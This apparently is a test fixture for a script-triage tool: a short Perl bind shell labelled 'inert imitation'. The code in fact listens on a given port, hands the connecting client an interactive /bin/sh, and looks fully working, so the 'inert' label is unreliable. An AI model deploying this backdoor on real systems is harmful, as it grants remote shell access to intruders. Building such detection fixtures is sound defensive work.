#!/usr/bin/perl
# triage-expect: triage_reverse_shell_script
# inert imitation: the shell command sits in a variable, the socket calls use &CONSTANT forms
use Socket;
$shell = "/bin/sh -i";
socket(SRV, &PF_INET, &SOCK_STREAM, getprotobyname('tcp')) || die;
bind(SRV, sockaddr_in($ARGV[0], INADDR_ANY)) || die;
listen(SRV, 1); accept(CL, SRV);
open(STDIN, "<&CL"); open(STDOUT, ">&CL"); open(STDERR, ">&CL");
exec $shell;
